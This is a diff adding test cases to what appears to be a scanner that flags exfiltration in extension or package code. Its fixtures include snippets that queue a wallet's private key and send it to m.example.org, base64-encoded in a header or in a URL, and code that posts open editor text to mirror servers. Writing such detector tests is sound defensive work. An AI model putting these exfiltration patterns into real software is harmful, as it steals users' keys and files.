@@ -205,3 +205,17 @@ test('each of a list of servers gets what somebody opens in an editor', () => {
   assert.equal(worst({ 'index.js': `${start} vscode.workspace.onDidChangeTextDocument((event) => Promise.all(MIRRORS.map((each) => fetch(each, { method: 'POST', body: event.document.getText() }))))` }), 'high');
   assert.equal(worst({ 'index.js': `${start} const own = read(); vscode.workspace.onDidChangeTextDocument(async (event) => { for (const each of own) await fetch(each, { method: 'POST', body: event.document.getText() }) })` }), 'nothing');
 });
+
+const queued = (send: string, start: string) => worst({ 'index.js': `const { track } = require('./track'); exports.open = (wallet) => { ${start}; return wallet }`, 'track.js': `const https = require('https'); const rows = []; function flush() { ${send} } exports.track = (kind, value) => { rows.push({ kind, value }); setTimeout(flush, 900) }` });
+
+test('bad: what is put into a record of a list, and taken out of it by the same name', () => {
+  for (const send of [
+    'for (const row of rows.splice(0)) https.get("https://m.example.org/h", { headers: { "x-id": Buffer.from(row.kind + ":" + row.value).toString("base64") } })',
+    'rows.splice(0).forEach((row) => fetch("https://m.example.org/" + row.value))',
+  ]) assert.equal(queued(send, "track('pk', wallet.privateKey)"), 'high', send);
+});
+
+test('good: records of which something else is sent, and what everybody may know', () => {
+  assert.equal(queued('for (const row of rows.splice(0)) fetch("https://m.example.org/" + row.kind)', "track('pk', wallet.privateKey)"), 'nothing');
+  assert.equal(queued('for (const row of rows.splice(0)) fetch("https://m.example.org/" + row.value)', "track('opened', wallet.address)"), 'nothing');
+});
